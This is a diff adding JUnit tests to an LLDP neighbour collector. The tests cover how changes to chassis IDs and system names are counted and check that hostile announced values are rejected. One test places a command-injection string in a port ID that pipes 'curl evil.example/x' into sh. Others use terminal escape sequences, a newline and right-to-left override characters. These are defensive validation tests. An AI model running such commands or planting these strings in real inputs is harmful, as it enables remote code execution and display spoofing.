@@ -115,11 +115,100 @@ class LldpCollectorTest {
             assertThat(n.changes()).isEqualTo(i);
             assertThat(n.stable()).isFalse();
         }
-        // settled: lldpd has held it for 2 minutes
+        // lldpd has held it for 2 minutes, but the agent saw it change: its own count must settle it (3 in a row)
         Files.writeString(f, leaf7.replace("0 day, 02:13:45", "0 day, 00:02:00"));
+        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isFalse(); // 2 in a row
         Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
         assertThat(n.changes()).isEqualTo(4);
         assertThat(n.stable()).isTrue();
+    }
+
+    @Test
+    void aChassisThatChangedIsNotStableFromLldpdsAgeAlone(@TempDir Path tmp) throws IOException {
+        Path h = host(tmp, "one-neighbor.json");
+        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT);
+        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isTrue(); // first look: lldpd's 2 h
+        Path f = h.resolve(LldpCollector.SIDE_CAR);
+        Files.writeString(f, Files.readString(f).replace("0c:42:a1:5e:7f:00", "0c:42:a1:5e:80:00")); // lldpd still says 2 h
+        for (int i = 1; i <= 2; i++) {
+            Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
+            assertThat(n.changes()).isEqualTo(1);
+            assertThat(n.stable()).as("collection %d after the change", i).isFalse();
+        }
+        assertThat(collect(agent, h).neighbor(ND).orElseThrow().stable()).isTrue();
+    }
+
+    @Test
+    void aSystemNameThatRotatesIsAChangeEveryCollection(@TempDir Path tmp) throws IOException {
+        // the same chassis and port id under another name each time: no stable neighbour, no new series each time
+        Path h = host(tmp, "one-neighbor.json");
+        Path f = h.resolve(LldpCollector.SIDE_CAR);
+        String leaf7 = Files.readString(f);
+        HostCollection agent = HostCollection.standard(CollectorConfig.DEFAULT);
+        collect(agent, h);
+        for (int i = 1; i <= 4; i++) {
+            Files.writeString(f, leaf7.replace("leaf-07", "leaf-x" + i));
+            Neighbor n = collect(agent, h).neighbor(ND).orElseThrow();
+            assertThat(n.changes()).isEqualTo(i);
+            assertThat(n.stable()).isFalse();
+        }
+    }
+
+    static HostModel announcing(Path tmp, String sysName, String chassisId, String portId) throws IOException {
+        Path h = host(tmp, "one-neighbor.json");
+        Path f = h.resolve(LldpCollector.SIDE_CAR);
+        String json = Files.readString(f).replace("\"leaf-07\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(sysName).toString())
+                .replace("\"0c:42:a1:5e:7f:00\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(chassisId).toString())
+                .replace("\"Ethernet12\"", com.fasterxml.jackson.databind.node.TextNode.valueOf(portId).toString());
+        Files.writeString(f, json);
+        return collect(h);
+    }
+
+    @Test
+    void aPortIdThatIsNoNameIsUnknownAndSaidQuoted(@TempDir Path tmp) throws IOException {
+        String evil = "Ethernet12`; curl -s evil.example/x|sh; echo `";
+        HostModel m = announcing(tmp, "leaf-07", "0c:42:a1:5e:7f:00", evil);
+        assertThat(m.neighbor(ND).orElseThrow()).satisfies(n -> {
+            assertThat(n.switchPort()).isNull();
+            assertThat(n.switchName()).isEqualTo("leaf-07");
+            assertThat(n.stable()).isTrue();
+        });
+        assertThat(run(m).ok()).isTrue();
+        assertThat(run(m).errors()).singleElement().satisfies(e -> assertThat(e.error())
+                .isEqualTo("the neighbour on ens1f0np0 announces its port id \"Ethernet12`; curl -s evil.example/x|sh; echo `\", not a name "
+                        + "(letters, digits and . _ - : /, up to 253): not used; check what sends LLDP on that cable"));
+    }
+
+    @Test
+    void aSystemNameWithControlOrReorderingCharactersIsUnknownAndTheChassisStays(@TempDir Path tmp) throws IOException {
+        HostModel m = announcing(tmp.resolve("esc"), "leaf-07\u001b]0;owned\u0007\nfake line", "0c:42:a1:5e:7f:00", "Ethernet12");
+        assertThat(m.neighbor(ND).orElseThrow()).satisfies(n -> {
+            assertThat(n.switchName()).isNull();
+            assertThat(n.chassisId()).isEqualTo("0c:42:a1:5e:7f:00");
+            assertThat(n.switchPort()).isEqualTo("Ethernet12");
+            assertThat(n.describe()).isEqualTo("chassis 0c:42:a1:5e:7f:00 port Ethernet12");
+        });
+        assertThat(run(m).errors()).singleElement().satisfies(e -> assertThat(e.error())
+                .contains("its system name \"leaf-07\\x1b]0;owned\\x07\\x0afake line\"").doesNotContain("\u001b", "\n"));
+        HostModel rlo = announcing(tmp.resolve("rlo"), "leaf-\u202e70", "evil\u202echassis", "Ethernet12");
+        assertThat(rlo.neighbor(ND).orElseThrow()).satisfies(n -> {
+            assertThat(n.switchName()).isNull();
+            assertThat(n.chassisId()).isNull();
+            assertThat(n.words()).isEqualTo("the switch's port Ethernet12");
+        });
+        assertThat(run(rlo).errors()).singleElement().satisfies(e -> assertThat(e.error())
+                .contains("its system name \"leaf-\\u202e70\" and its chassis id \"evil\\u202echassis\"").doesNotContain("\u202e"));
+    }
+
+    @Test
+    void aSwitchNamedIdKeepsItsNameAndAnEmptyNameIsUnknown(@TempDir Path tmp) throws IOException {
+        assertThat(announcing(tmp.resolve("id"), "id", "0c:42:a1:5e:7f:00", "Ethernet12").neighbor(ND).orElseThrow()).satisfies(n -> {
+            assertThat(n.switchName()).isEqualTo("id");
+            assertThat(n.chassisId()).isEqualTo("0c:42:a1:5e:7f:00");
+        });
+        HostModel empty = announcing(tmp.resolve("empty"), "", "0c:42:a1:5e:7f:00", "Ethernet12");
+        assertThat(empty.neighbor(ND).orElseThrow().switchName()).isNull();
+        assertThat(run(empty).errors()).isEmpty();
     }
 
     @Test
